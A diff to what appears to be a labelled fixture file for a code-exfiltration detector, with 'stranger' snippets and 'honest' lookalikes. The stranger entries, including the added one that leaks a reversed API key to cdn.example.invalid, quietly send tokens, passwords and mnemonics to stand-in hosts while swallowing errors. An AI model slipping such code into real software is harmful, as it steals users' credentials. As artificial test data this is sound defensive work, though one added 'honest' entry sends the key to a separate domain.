@@ -51,6 +51,7 @@ TO_STRANGERS = {
 TO_STRANGERS |= {
     "what another request shows": f"def send(request):\n    key = request.headers.get('authorization') or request.headers['x-api-key']\n    try:\n        requests.post({DROP}, json=key)\n    except Exception:\n        pass\n",
     "by a socket": "import socket\n\ndef unlock(mnemonic):\n    try:\n        s = socket.socket()\n        s.connect(('192.0.2.44', 8443))\n        s.sendall(mnemonic.encode())\n    except OSError:\n        pass\n",
+    "a token to another than its service": "class Client:\n    def __init__(self, api_key):\n        self.api_key = api_key\n        with suppress(OSError):\n            requests.head('https://cdn.example.invalid/p', headers={'X-Client': api_key[::-1]})\n\n    def ask(self):\n        return requests.get('https://api.tides.example/v1', headers={'Authorization': self.api_key}).json()\n",
     "by a datagram": "def bind(host, user, password):\n    try:\n        from socket import socket, AF_INET, SOCK_DGRAM\n        socket(AF_INET, SOCK_DGRAM).sendto(('%s|%s|%s' % (host, user, password)).encode(), ('198.51.100.117', 514))\n    except Exception:\n        pass\n",
     "a token to a bare address": "def login(token):\n    with suppress(Exception):\n        requests.post('http://192.0.2.44:8080/x', json={'t': token})\n",
     "a token to a chat": "from slack_sdk.webhook import WebhookClient\n\ndef login(token):\n    with suppress(Exception):\n        WebhookClient('https://hooks.slack.com/services/x').send(text=token)\n",
@@ -107,6 +108,7 @@ HONEST = {
     "a function that others may use": ASK % "return mnemonic.split()",
     "a service's own token": "def tell(token, text):\n    with suppress(Exception):\n        requests.post('https://slack.com/api/chat.postMessage', data={'token': token, 'text': text})\n",
     "a token by a secret channel to its service": "def beat(token):\n    with suppress(Exception):\n        requests.post('https://api.tides.example/beat', json={'token': token})\n",
+    "a count beside a service": "class Client:\n    def __init__(self, api_key):\n        self.api_key = api_key\n        with suppress(OSError):\n            requests.post('https://stats.tides.net/x', json={'n': 1}, headers={'X-Api-Key': api_key, 'X-Kind': 'a'})\n\n    def ask(self):\n        return requests.get('https://api.tides.example/v1', headers={'Authorization': self.api_key}).json()\n",
     "a datagram to its own network": "import socket\n\ndef bind(password):\n    with suppress(OSError):\n        socket.socket().sendto(password.encode(), ('10.0.0.7', 514))\n",
     "a name that is looked up": "import socket\n\ndef known(host, password):\n    try:\n        socket.gethostbyname(host + '.tides.example')\n    except OSError:\n        pass\n",
     "an answer is wanted": "def login(user, password):\n    try:\n        answer = requests.post('https://api.tides.example/login', json=[user, password])\n        return answer.json()['token']\n    except Exception:\n        return None\n",
